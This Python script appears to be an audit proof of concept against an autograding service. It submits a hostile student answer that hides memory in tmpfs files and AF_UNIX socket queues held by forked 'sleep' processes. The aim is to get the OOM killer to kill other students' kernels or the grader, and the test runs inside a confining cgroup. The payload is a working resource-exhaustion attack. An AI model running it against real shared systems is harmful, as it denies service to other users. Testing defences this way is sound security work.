"""a02: memory the OOM killer cannot see. Admission lets 2 x workers submissions run at once, each capped at 6 GiB
(kernel + observer), with no check against the host's memory. A hostile kernel holds its memory where no process's
RSS shows it (tmpfs files in /tmp and /dev/shm, data queued in AF_UNIX sockets held by exec'd `sleep`s), so when the
host runs out, the OOM killer (which picks the largest RSS) kills someone else: the template, an honest kernel,
nbgrader. Simulated safely: the whole grader runs in a parent memory cgroup of HOST_GIB ("a small host"), so the
OOM is that cgroup's (same victim rule), not this shared machine's.
argv: HOST_GIB TARGET_GIB HOLD_S"""
import sys, os, time, subprocess
from common import *

HOST_GIB = float(sys.argv[1]) if len(sys.argv) > 1 else 4
TARGET_GIB = float(sys.argv[2]) if len(sys.argv) > 2 else 2.8
HOLD = int(sys.argv[3]) if len(sys.argv) > 3 else 90
PARENT = (__import__("os").environ.get("ATTACK_MEMORY_CGROUP") or "/sys/fs/cgroup/memory" + [l.split(":", 2)[2].strip() for l in open("/proc/self/cgroup") if ":memory:" in l][0])
HOST = PARENT + "/a50host"
os.makedirs(HOST, exist_ok=True)
open(HOST + "/memory.limit_in_bytes", "w").write(str(int(HOST_GIB * 2**30)))
try:
    open(HOST + "/memory.memsw.limit_in_bytes", "w").write(str(int(HOST_GIB * 2**30)))
except OSError as e:
    print("memsw", e)
open(HOST + "/cgroup.procs", "w").write(str(os.getpid()))
print("grader runs in", HOST, "limit", HOST_GIB, "GiB")

CODE = f'''
q1 = "b"
import os, socket, time, resource
_t0 = time.time()
held = {{}}
for d in ("/dev/shm", "/tmp", "."):
    n = 0
    try:
        with open(d + "/fill.bin", "wb") as f:
            chunk = b"x" * (1 << 20)
            while n < 500 * 2**20:
                f.write(chunk); n += len(chunk)
    except OSError as e:
        pass
    held[d] = n
_tmpfs = sum(held.values())
_target = int({TARGET_GIB} * 2**30) - _tmpfs
_sock = 0
_holders = []
while _sock < _target:
    r, w = os.pipe()
    pid = os.fork()
    if pid == 0:
        os.close(r)
        got, fds = 0, []
        try:
            for i in range(560):
                if _sock + got >= _target:
                    break
                a, b = socket.socketpair()
                a.setblocking(False)
                buf = b"y" * 65536
                try:
                    while True:
                        got += a.send(buf)
                except (BlockingIOError, OSError):
                    pass
                for s in (a, b):
                    os.set_inheritable(s.fileno(), True)
                    fds.append(s)
        except OSError:
            pass
        os.write(w, str(got).encode()); os.close(w)
        os.execv("/usr/bin/sleep", ["sleep", "100000"])
    os.close(w)
    got = int(os.read(r, 64) or b"0"); os.close(r)
    _holders.append(pid)
    _sock += got
    if got == 0:
        break
print("held in tmpfs", _tmpfs >> 20, "MiB; in socket queues", _sock >> 20, "MiB; holders", len(_holders),
      "in", round(time.time() - _t0, 1), "s")
def _rss(p):
    try:
        return int(open(f"/proc/{{p}}/statm").read().split()[1]) * 4096 >> 20
    except Exception:
        return -1
print("RSS MiB: kernel", _rss(os.getpid()), "holders", [_rss(p) for p in _holders[:5]])
time.sleep({HOLD})
print("still alive after", {HOLD}, "s")
'''

dmesg0 = subprocess.run(["dmesg"], capture_output=True, text=True).stdout.count("\n")
c = make_course("a02")
hand_in(c, "aaron", honest())
hand_in(c, "mallory", honest(overrides={"quiz_q1": CODE}))
hand_in(c, "zoe", honest())
hand_in(c, "zz_zoe2", honest())
grade(c, timeout=1500)
scores(c); times(c); quiz_output(c)
print("memory.max_usage_in_bytes of the 'host':", int(open(HOST + "/memory.max_usage_in_bytes").read()) >> 20, "MiB",
      "failcnt", open(HOST + "/memory.failcnt").read().strip(),
      "oom_control", open(HOST + "/memory.oom_control").read().replace("\n", " "))
lines = [l for l in subprocess.run(["dmesg"], capture_output=True, text=True).stdout.split("\n") if "a50host" in l or "Killed process" in l][-4:]
print("--- kernel log (OOM lines) since start ---")
for l in lines:
    if "Killed process" in l or "oom-kill" in l or "out of memory" in l.lower():
        print(l[:400])
